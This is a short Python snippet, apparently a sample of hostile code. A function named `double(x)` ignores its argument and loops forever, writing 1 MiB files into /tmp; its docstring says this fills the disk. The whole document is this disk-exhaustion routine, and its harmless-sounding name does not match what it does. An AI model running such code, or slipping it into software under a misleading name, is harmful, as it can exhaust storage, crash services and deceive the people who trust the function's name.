"""Fills the disk."""
def double(x):
    n = 0
    while True:
        n += 1
        with open(f"/tmp/{n}", "wb") as file:
            file.write(bytes(1 << 20))
